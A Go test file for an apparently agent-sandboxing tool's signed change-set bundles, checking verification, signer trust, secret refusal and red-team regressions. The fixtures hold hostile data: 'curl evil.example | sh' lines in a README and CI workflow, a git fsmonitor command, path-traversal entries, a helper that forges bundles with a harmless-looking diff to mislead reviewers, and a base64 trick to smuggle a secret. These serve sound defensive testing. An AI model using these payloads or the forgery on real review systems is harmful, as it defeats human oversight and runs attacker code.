package main

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/paddock-dev/paddock"
	"github.com/paddock-dev/paddock/bundle"
	"github.com/paddock-dev/paddock/changeset"
	"github.com/paddock-dev/paddock/client"
	"github.com/paddock-dev/paddock/gitx/gittest"
)

// TestBundleAcrossMachines: a run's approved change set travels as one
// signed file: it verifies offline with the signer's key and with no
// other, refuses any byte changed, and imports on another daemon (another
// state directory, another clone of the project) as a run submitted under
// the same hash, approved there only when the signer is trusted, and
// applied from there exactly as it was reviewed.
func TestBundleAcrossMachines(t *testing.T) {
	t.Parallel() // its own daemon and state
	homeA, repoA := reviewDaemon(t)
	id := strings.TrimSpace(cli(t, homeA, "create", "-p", "app").must(t).out)
	cli(t, homeA, "exec", id, "--", "sh", "-c", `printf 'hello, bundled\n' > README.md && printf '\000\001PNG\377' > logo.bin && printf '#!/bin/sh\necho hi\n' > run.sh && chmod +x run.sh && rm pkg00/file0000.go`).must(t)
	cs := decode[paddock.ChangeSet](t, cli(t, homeA, "submit", id, "--json"))
	cli(t, homeA, "approve", id, "--hash", cs.Hash).must(t)

	file := filepath.Join(t.TempDir(), "run.bundle")
	cli(t, homeA, "bundle", id, "-o", "/nonexistent/dir/run.bundle").wantCode(t, exitUsage, "not a directory")
	cli(t, homeA, "bundle", id, "-o", file).must(t)
	key := strings.TrimSpace(cli(t, homeA, "bundle", "--public-key").must(t).out)
	if !strings.HasPrefix(key, "ed25519 ") {
		t.Fatalf("public key: %q", key)
	}
	if ev := cli(t, homeA, "events", id, "--json").must(t).out; !strings.Contains(ev, paddock.EventBundled) {
		t.Fatalf("no run.bundled event:\n%s", ev)
	}

	// Offline: no daemon is asked (none is named).
	none := t.TempDir()
	out := cli(t, none, "verify-bundle", file, "--key", key).must(t).out
	if !strings.Contains(out, "verified: run "+id) || !strings.Contains(out, cs.Hash) || !strings.Contains(out, "approved by") {
		t.Fatalf("verify-bundle:\n%s", out)
	}
	var rep struct {
		Trusted bool   `json:"trusted"`
		Hash    string `json:"hash"`
		Events  int    `json:"events"`
	}
	if err := json.Unmarshal([]byte(cli(t, none, "verify-bundle", file, "--key", key, "--json").must(t).out), &rep); err != nil || !rep.Trusted || rep.Hash != cs.Hash || rep.Events < 5 {
		t.Fatalf("verify-bundle --json: %+v %v", rep, err)
	}
	cli(t, none, "verify-bundle", file, "--key", key, "--approved").must(t)
	keyFile := filepath.Join(t.TempDir(), "signer.pub")
	os.WriteFile(keyFile, []byte("# the signer\n"+key+" # laptop\n"), 0o600)
	cli(t, none, "verify-bundle", file, "--key", keyFile).must(t)
	other := "ed25519 " + strings.Repeat("A", 43) + "="
	cli(t, none, "verify-bundle", file, "--key", other).wantCode(t, exitForbidden, "not trusted")
	cli(t, none, "verify-bundle", file).wantCode(t, exitUsage, "--key")
	raw, _ := os.ReadFile(file)
	i := strings.Index(string(raw), "hello, bundled")
	bad := append([]byte(nil), raw...)
	bad[i] = 'j'
	tampered := filepath.Join(t.TempDir(), "tampered.bundle")
	os.WriteFile(tampered, bad, 0o600)
	cli(t, none, "verify-bundle", tampered, "--key", key).wantCode(t, exitConflict, "does not verify")
	os.WriteFile(tampered, raw[:len(raw)/2], 0o600)
	cli(t, none, "verify-bundle", tampered, "--key", key).wantCode(t, exitConflict, "does not verify")

	// Another machine: its own state, its own clone of the project.
	base := t.TempDir()
	homeB := filepath.Join(base, "home")
	repoB := filepath.Join(base, "app")
	if out, err := exec.Command("git", "clone", "-q", repoA, repoB).CombinedOutput(); err != nil {
		t.Fatalf("clone: %v %s", err, out)
	}
	os.MkdirAll(homeB, 0o700)
	os.WriteFile(filepath.Join(homeB, "paddock.toml"), []byte("apply_name = \"Bo\"\napply_email = \"bo@example.com\"\n"), 0o600)
	dB := startDaemon(t, homeB, "--listen", "127.0.0.1:0")
	cli(t, homeB, "project", "add", repoB, "--name", "app").must(t)

	cli(t, homeB, "import", file).wantCode(t, exitForbidden, "not trusted")
	res := decode[paddock.ImportResult](t, cli(t, homeB, "import", file, "--key", key, "--json"))
	if !res.Approved || res.Hash != cs.Hash || res.FromRun != id || res.Run.ID == id {
		t.Fatalf("import: %+v", res)
	}
	// Applied there without a second approval: the one bound to the hash came along.
	cli(t, homeB, "apply", res.Run.ID, "--to", "branch=bundled").must(t)
	for f, want := range map[string]string{"README.md": "hello, bundled\n", "logo.bin": "\x00\x01PNG\xff", "run.sh": "#!/bin/sh\necho hi\n"} {
		got, err := exec.Command("git", "-C", repoB, "show", "bundled:"+f).Output()
		if err != nil || string(got) != want {
			t.Errorf("%s on the branch: %q %v", f, got, err)
		}
	}
	if out, _ := exec.Command("git", "-C", repoB, "ls-tree", "bundled", "pkg00/file0000.go", "run.sh").Output(); string(out) == "" || strings.Contains(string(out), "file0000") || !strings.HasPrefix(string(out), "100755") {
		t.Errorf("the deletion or the mode did not travel: %q", out)
	}
	ev := cli(t, homeB, "events", res.Run.ID, "--json").must(t).out
	if !strings.Contains(ev, paddock.EventImported) || !strings.Contains(ev, `"from_run":"`+id+`"`) {
		t.Fatalf("no run.imported event:\n%s", ev)
	}

	// Untrusted: restored and submitted, not approved.
	res = decode[paddock.ImportResult](t, cli(t, homeB, "import", file, "--untrusted", "--json"))
	if res.Approved || res.Hash != cs.Hash {
		t.Fatalf("untrusted import: %+v", res)
	}
	cli(t, homeB, "apply", res.Run.ID, "--to", "branch=unapproved").wantCode(t, exitConflict, "")
	// A bundle of what nobody approved verifies, and fails --approved.
	unapproved := filepath.Join(t.TempDir(), "unapproved.bundle")
	cli(t, homeB, "bundle", res.Run.ID, "-o", unapproved).must(t)
	keyB := strings.TrimSpace(cli(t, homeB, "bundle", "--public-key").must(t).out)
	cli(t, none, "verify-bundle", unapproved, "--key", keyB).must(t)
	cli(t, none, "verify-bundle", unapproved, "--key", keyB, "--approved").wantCode(t, exitConflict, "nobody approved")
	// --untrusted never brings an approval, even from a trusted signer.
	if r := decode[paddock.ImportResult](t, cli(t, homeB, "import", file, "--untrusted", "--key", key, "--json")); r.Approved {
		t.Fatalf("an --untrusted import came approved: %+v", r)
	}
	cli(t, homeB, "approve", res.Run.ID, "--hash", cs.Hash).must(t)

	// An admin principal's key, given for one import, vouches for no
	// approval: it could have signed approvals by anyone. Only the
	// operator's, or a key the daemon trusts for good, carries them.
	cli(t, homeB, "principal", "add", "adm", "--role", "admin").must(t)
	tok := decode[paddock.NewToken](t, cli(t, homeB, "token", "create", "adm", "--json"))
	f, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	byAdmin, err := client.TCP(dB.info.Listen, tok.Secret).Import(context.Background(), paddock.ImportRequest{Trust: []string{key}}, f)
	if err != nil || byAdmin.Approved || !byAdmin.Trusted {
		t.Fatalf("an admin principal's import with its own key: %+v %v", byAdmin, err)
	}

	// A project without the base revision cannot take it.
	empty := newRepo(t, filepath.Join(base, "elsewhere"), 1)
	cli(t, homeB, "project", "add", empty, "--name", "elsewhere").must(t)
	cli(t, homeB, "import", file, "--key", key, "--project", "elsewhere").wantCode(t, exitNotFound, "fetch it into the project")
}

// TestVerifyBundleSaysVerifiedOnlyWhenAllPass: verify-bundle --verified
// (or --approved) of a whole bundle that fails it prints nothing that
// says "verified", names what failed, and exits 4; a bundle that passes
// every check asked says so.
func TestVerifyBundleSaysVerifiedOnlyWhenAllPass(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, _ := reviewDaemon(t)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
	cli(t, home, "tool", id, "write", "--arg", "path=NOTES.md", "--arg", "content=hi").must(t)
	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
	file := filepath.Join(t.TempDir(), "run.bundle")
	cli(t, home, "bundle", id, "-o", file).must(t)
	key := strings.TrimSpace(cli(t, home, "bundle", "--public-key").must(t).out)
	none := t.TempDir()

	for _, args := range [][]string{{"--verified"}, {"--verified", "--json"}, {"--approved", "--verified"}} {
		r := cli(t, none, append([]string{"verify-bundle", file, "--key", key}, args...)...)
		if r.code != exitConflict || strings.Contains(r.out, "verified") || !strings.Contains(r.err, "no verify of change set "+cs.Hash+" passed (no verify results)") {
			t.Errorf("verify-bundle %v of a bundle no verify passed: exit %d\nstdout: %s\nstderr: %s", args, r.code, r.out, r.err)
		}
		if slices.Contains(args, "--approved") && !strings.Contains(r.err, "nobody approved") {
			t.Errorf("verify-bundle %v does not say nobody approved it: %s", args, r.err)
		}
	}
	if out := cli(t, none, "verify-bundle", file, "--key", key).must(t).out; !strings.HasPrefix(out, "verified: run "+id) {
		t.Errorf("verify-bundle of a whole bundle:\n%s", out)
	}
}

// TestBundleRefusesSecrets: a change set that holds a declared secret's
// value is never bundled: the blobs would carry it in clear.
func TestBundleRefusesSecrets(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, _ := reviewDaemon(t)
	os.WriteFile(filepath.Join(home, "secrets", "API_TOKEN"), []byte(contractSecret+"\n"), 0o600)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app", "--secret", "API_TOKEN").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `printf 'token = %s\n' "$API_TOKEN" > token.txt`).must(t)
	cli(t, home, "submit", id).must(t)
	file := filepath.Join(t.TempDir(), "run.bundle")
	cli(t, home, "bundle", id, "-o", file).wantCode(t, exitForbidden, "secret")
	if _, err := os.Stat(file); !os.IsNotExist(err) {
		t.Fatalf("a refused bundle left a file: %v", err)
	}
}

// The tests below were red team 3's attacks on bundles as they landed
// (the report of branch red3): one that fails is a finding.

// forgeBundle reads the bundle at file (any signer), lets edit change
// what it carries, re-hashes the change set, rebinds the submission and
// the event log to the new hash, and signs the result with a new key: a
// bundle anyone can make from one they were sent.
func forgeBundle(t *testing.T, file string, edit func(cs *paddock.ChangeSet)) (forged string, key ed25519.PrivateKey) {
	t.Helper()
	f, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	b, err := bundle.Read(f, bundle.Options{AnySigner: true, TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	cs := *b.ChangeSet
	d, err := os.ReadFile(cs.DiffFile)
	if err != nil {
		t.Fatal(err)
	}
	cs.Diff, cs.DiffFile, cs.DiffOmitted = string(d), "", false
	cs.Entries = append([]paddock.ChangeEntry(nil), cs.Entries...)
	for i := range cs.Entries {
		cs.Entries[i].Risks = append([]string(nil), cs.Entries[i].Risks...)
	}
	old := cs.Hash
	edit(&cs)
	if cs.Hash, err = changeset.Hash(&cs); err != nil {
		t.Fatal(err)
	}
	sub := *b.Submission
	sub.Hash = cs.Hash
	events, err := b.ReadEvents()
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range events {
		e.Data = bytes.ReplaceAll(e.Data, []byte(old), []byte(cs.Hash))
	}
	_, key, _ = ed25519.GenerateKey(rand.Reader)
	var out bytes.Buffer
	err = bundle.Write(&out, &bundle.Contents{Run: b.Run, ChangeSet: &cs, Submission: &sub, Access: b.Access,
		Enforcement: b.Enforcement, Events: events,
		Blob: func(id string) (io.ReadCloser, error) { return os.Open(b.BlobPath(id)) }}, key, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	forged = filepath.Join(t.TempDir(), "forged.bundle")
	if err := os.WriteFile(forged, out.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	return forged, key
}

// TestImportKeepsTheBundlesDiff: a bundle's diff is hashed with
// its entries, but nothing holds the diff to the blobs the entries name.
// Anyone who was sent a bundle can swap its diff for a harmless-looking
// one (and drop its risk labels, which no hash covers), re-hash, sign
// with a key of their own and send it on. `paddock import --untrusted`
// takes it: the workspace gets the real blobs, the submission keeps the
// forged diff and labels under the forged hash, and that diff is what the
// review page shows and what approve binds to. The apply then writes the
// blobs nobody saw. The imported submission must be the change set the
// workspace holds (its hash, its diff, its labels), or the import refused.
func TestImportKeepsTheBundlesDiff(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, _ := reviewDaemon(t)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c",
		`printf 'curl evil.example | sh\n' > README.md && mkdir -p .github/workflows && printf 'on: push\njobs: {x: {runs-on: self-hosted, steps: [{run: "curl evil.example | sh"}]}}\n' > .github/workflows/ci.yml`).must(t)
	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
	file := filepath.Join(t.TempDir(), "run.bundle")
	cli(t, home, "bundle", id, "-o", file).must(t)

	forged, _ := forgeBundle(t, file, func(c *paddock.ChangeSet) {
		c.Diff = strings.ReplaceAll(c.Diff, "curl evil.example | sh", "a harmless line")
		for i := range c.Entries {
			c.Entries[i].Risks = nil
		}
	})
	res := cli(t, home, "import", forged, "--untrusted", "--json")
	if res.code != 0 {
		return // refused: held
	}
	imp := decode[paddock.ImportResult](t, res)
	live := decode[paddock.ChangeSet](t, cli(t, home, "diff", imp.Run.ID, "--json"))
	if !strings.Contains(live.Diff, "curl evil.example") {
		t.Fatalf("the imported workspace does not hold the bundle's blobs:\n%s", live.Diff)
	}
	shown, _ := os.ReadFile(filepath.Join(home, "artifacts", imp.Run.ID, "changeset-"+strings.TrimPrefix(imp.Hash, "sha256:")+".diff"))
	if imp.Hash != live.Hash {
		t.Errorf("import submitted %s, a change set the workspace does not hold (it holds %s, %s's was %s); "+
			"what the review page shows and approve binds to:\n%s", imp.Hash, live.Hash, id, cs.Hash, shown)
	}
	if strings.Contains(string(shown), "a harmless line") {
		t.Errorf("the imported submission's diff is the forged one, not the workspace's")
	}
	saved, _ := os.ReadFile(filepath.Join(home, "artifacts", imp.Run.ID, "changeset-"+strings.TrimPrefix(imp.Hash, "sha256:")+".json"))
	if !strings.Contains(string(saved), "ci_config") {
		t.Errorf("the imported submission lost the workflow's ci_config label (the workspace's change set has it: %v)", labelsOf(live))
	}
}

func labelsOf(cs paddock.ChangeSet) map[string][]string {
	out := map[string][]string{}
	for _, e := range cs.Entries {
		out[e.Path] = e.Risks
	}
	return out
}

// TestBundleCarriesAShiftedBase64Secret: the secret labeller
// knows a declared secret's base64 only as base64 of the value alone. A
// file holding the base64 of "API_TOKEN=<value>" (an env file in a config
// map: nothing an agent must be clever to write) shifts the value by 10
// bytes, and none of its encoded characters match: the entry is not
// labelled secret, the diff shows it unmasked and `paddock bundle` writes
// it into a file meant to travel. Both must see it (any of the three
// alignments of base64), as they see the value's own base64.
func TestBundleCarriesAShiftedBase64Secret(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, _ := reviewDaemon(t)
	os.WriteFile(filepath.Join(home, "secrets", "API_TOKEN"), []byte(contractSecret+"\n"), 0o600)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app", "--secret", "API_TOKEN").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `printf 'API_TOKEN=%s\n' "$API_TOKEN" | base64 -w0 > env.b64`).must(t)
	enc := base64.StdEncoding.EncodeToString([]byte("API_TOKEN=" + contractSecret + "\n"))
	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
	if strings.Contains(cs.Diff, enc) {
		t.Errorf("the change set's diff shows the declared secret in base64, unmasked: %s", enc)
	}
	file := filepath.Join(t.TempDir(), "run.bundle")
	res := cli(t, home, "bundle", id, "-o", file)
	if res.code == 0 {
		raw, _ := os.ReadFile(file)
		t.Errorf("the bundle was written (it carries the secret's base64: %v)", bytes.Contains(raw, []byte(enc)))
	}
}

// TestBundleRevivesARejectedApproval: a change set approved and
// then rejected (a reviewer found what the approver missed) keeps its
// submission and approval on disk, and `paddock bundle` writes it with
// the approval, the rejection only an event in the log that neither
// verify-bundle nor import reads. Imported where the signer is trusted
// (here: the same daemon, whose key it trusts), it comes back approved,
// ready to apply. A rejected run must not bundle, or its bundle must not
// carry the approval.
func TestBundleRevivesARejectedApproval(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, repo := reviewDaemon(t)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `printf 'rejected after all\n' > README.md`).must(t)
	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
	cli(t, home, "approve", id, "--hash", cs.Hash).must(t)
	cli(t, home, "reject", id).must(t)
	file := filepath.Join(t.TempDir(), "run.bundle")
	if res := cli(t, home, "bundle", id, "-o", file); res.code != 0 {
		return // held: a rejected run is not bundled
	}
	res := cli(t, home, "import", file, "--json")
	if res.code != 0 {
		return // held
	}
	imp := decode[paddock.ImportResult](t, res)
	if imp.Approved {
		applied := cli(t, home, "apply", imp.Run.ID, "--to", "branch=revived")
		t.Errorf("run %s was rejected after its approval; its bundle imported approved (%s), and applied: exit %d, branch revived: %q",
			id, imp.Run.ID, applied.code, strings.TrimSpace(gittest.Git(t, repo, "log", "--oneline", "-1", "revived", "--")))
	}
}

// TestImportRefusesHostilePaths: a forged bundle (any key,
// imported --untrusted) whose change set writes into .git under any
// spelling, out of the workspace, at an absolute path, or at a name with
// a NUL: import writes through the working tools, so each is refused and
// nothing lands outside the run (held).
func TestImportRefusesHostilePaths(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, repo := reviewDaemon(t)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `printf '[core]\n\tfsmonitor = touch /tmp/pwned-red3\n' > README.md`).must(t)
	cli(t, home, "submit", id).must(t)
	file := filepath.Join(t.TempDir(), "run.bundle")
	cli(t, home, "bundle", id, "-o", file).must(t)
	gitConfig, _ := os.ReadFile(filepath.Join(repo, ".git", "config"))
	for _, p := range []string{".git/config", ".GIT/hooks/post-checkout", "sub/.git/config", "../escape-red3", "/tmp/abs-red3", "a\x00b", ".git"} {
		forged, _ := forgeBundle(t, file, func(c *paddock.ChangeSet) {
			e := c.Entries[0]
			e.Path, e.Op, e.OldMode, e.OldBlob, e.Risks, e.Blocked = p, paddock.OpCreate, "", "", nil, ""
			c.Entries = append(c.Entries, e)
		})
		if res := cli(t, home, "import", forged, "--untrusted"); res.code == 0 {
			t.Errorf("an entry at %q was imported", p)
		} else {
			t.Logf("%q: %s", p, strings.TrimSpace(res.err))
		}
	}
	if b, _ := os.ReadFile(filepath.Join(repo, ".git", "config")); !bytes.Equal(b, gitConfig) {
		t.Errorf("the project's .git/config changed:\n%s", b)
	}
	for _, p := range []string{"/tmp/abs-red3", "/tmp/pwned-red3", filepath.Join(home, "escape-red3"), filepath.Join(home, "workspaces", "escape-red3")} {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s was written", p)
		}
	}
}

// TestBundleRefusesASecretInABinaryFile: the declared secret's
// value inside a binary file (its diff is a binary patch, which masking
// withholds): the bundle, which carries the blob in clear, is refused
// all the same (held).
func TestBundleRefusesASecretInABinaryFile(t *testing.T) {
	t.Parallel() // its own daemon and state
	home, _ := reviewDaemon(t)
	os.WriteFile(filepath.Join(home, "secrets", "API_TOKEN"), []byte(contractSecret+"\n"), 0o600)
	id := strings.TrimSpace(cli(t, home, "create", "-p", "app", "--secret", "API_TOKEN").must(t).out)
	cli(t, home, "exec", id, "--", "sh", "-c", `printf '\000\001%s\377' "$API_TOKEN" > blob.bin`).must(t)
	cli(t, home, "submit", id).must(t)
	file := filepath.Join(t.TempDir(), "run.bundle")
	if res := cli(t, home, "bundle", id, "-o", file); res.code == 0 {
		raw, _ := os.ReadFile(file)
		t.Errorf("a change set with the secret in a binary file was bundled (the value in clear in it: %v)", bytes.Contains(raw, []byte(contractSecret)))
	}
}
